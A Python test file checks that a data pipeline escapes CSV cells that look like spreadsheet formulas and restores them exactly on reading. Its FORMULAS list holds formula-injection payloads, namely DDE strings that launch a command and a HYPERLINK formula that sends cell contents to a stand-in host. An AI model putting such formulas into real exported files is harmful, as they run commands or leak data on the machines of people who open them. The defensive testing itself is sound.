"""No cell of a CSV file is a formula, and reading takes back exactly what writing put in front."""

import csv

import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.config.config import read_config
from pipeline.config.data import Source
from pipeline.files.cell_text import csv_text, escaped, escaped_texts, restored, restored_cells
from pipeline.files.source_file import read_file
from pipeline.output import write_table
from pipeline.reading.ingest import read_source

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1,"call")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1",
    "\u3000=1",
    "\u00a0@A1",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠A1",
    "-E5",
    "-2 A1:B2",
    "-2 cmd|'/C calc'!A0",
    "-2 SUM(A1)",
    "-2+A1",
    "+A1",
    "=",
    "@",
    "'=1",
    "''=1",
]
PLAIN = [
    "+8613800138021",
    "+86 138 0013 8021",
    "+86-138-0013-8021",
    "+(86)138",
    "-5",
    "-5.25%",
    "+1e5",
    "-1.5E-3",
    "-1,200",
    "-2 calendar months until the close; such leads close 1.7 times as often",
    "-2 个月后成交",
    "-",
    "+",
    "\tL1",
    "\rL1",
    "L=1",
    "a@b.example",
    "王小明",
    "'00124",
    "'quoted'",
    "",
    " ",
    "——",
]
SIGNS = st.text(alphabet="'=+-@＝＋－＠ \t\r\n\u3000a1.5eE(cmd)", max_size=12)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_loses_it(text):
    assert escaped(text) == f"'{text}"
    assert restored(escaped(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_telephone_numbers_and_ids_stay_as_they_are(text):
    assert escaped(text) == text
    assert restored(text) == text


@given(SIGNS | st.text(max_size=20))
def test_what_was_written_is_read(text):
    assert restored(escaped(text)) == text


@given(SIGNS)
def test_no_cell_begins_as_a_formula(text):
    cell = escaped(text).lstrip(" \t\r\n\u3000")
    assert cell[:1] not in ("=", "@", "＝", "＠")
    assert cell[:1] not in ("+", "-", "＋", "－") or not any(sign in cell for sign in "=@|")


@pytest.mark.parametrize("dtype", ["str", "object", "category"])
def test_a_table_is_written_as_text_and_its_numbers_as_numbers(tmp_path, dtype):
    frame = pd.DataFrame({"=name": pd.Series([*FORMULAS, *PLAIN], dtype=dtype), "n": -1.5, "flag": True})
    frame["at"] = pd.Timestamp("2026-07-01", tz="UTC")
    write_table(frame, tmp_path / "graded.csv")
    with (tmp_path / "graded.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file)
    assert header[0] == "'=name"
    assert [row[0] for row in rows] == list(map(escaped, [*FORMULAS, *PLAIN]))
    assert {(row[1], row[2]) for row in rows} == {("-1.5", "True")}
    write_table(frame, tmp_path / "plain.csv", escape=False)
    with (tmp_path / "plain.csv").open(encoding="utf-8-sig", newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["=name", *FORMULAS, *PLAIN]


def test_missing_cells_and_other_things_than_text_stay():
    frame = pd.DataFrame({"a": ["=1", None, 2, -3.5]}, dtype="object")
    assert csv_text(frame) == 'a\n\'=1\n""\n2\n-3.5\n'
    assert csv_text(pd.DataFrame()) == "\n"
    twice = pd.DataFrame([["=1", "x"]], columns=["a", "a"])
    assert csv_text(twice) == "a,a\n'=1,x\n"
    assert escaped_texts(pl.Series(["=1", None])).to_list() == ["'=1", None]


def test_a_list_that_was_written_is_read_as_it_was(tmp_path):
    # Ends of cells are blank in no source.
    texts = [text for text in FORMULAS if text == text.strip()]
    frame = pd.DataFrame({"lead_id": [f"L{place}" for place in range(len(texts))], "=name": texts})
    write_table(frame, tmp_path / "leads.csv")
    raw = restored_cells(
        read_file(tmp_path / "leads.csv", Source(path="leads.csv"), ["lead_id"], ["lead_id"])
    )
    assert raw.header == ("lead_id", "=name")
    assert raw.cells["1"].to_list() == texts


@pytest.mark.parametrize("escape", [True, False])
def test_a_source_is_read_as_it_was_written(tmp_path, escape):
    ids = ["=1+1", "@a", "'=b", "+8613800138021"]
    listed = pd.DataFrame({"lead_id": ids, "created_at": "2026-01-01 00:00", "name": "=2"})
    write_table(listed, tmp_path / "leads.csv", escape=escape)
    (tmp_path / "c.yaml").write_text(
        f"name: x\nescape_cells: {str(escape).lower()}\nsources: {{leads: {{path: leads.csv}}}}\n"
        "attributes: {name: {kind: categorical}}\nlabel: {close: outcome, column: won}\n"
    )
    frame = read_source(read_config(tmp_path / "c.yaml"), "leads", outcome=False).frame
    assert frame["lead_id"].to_list() == ids
    assert set(frame["name"]) == {"=2"}
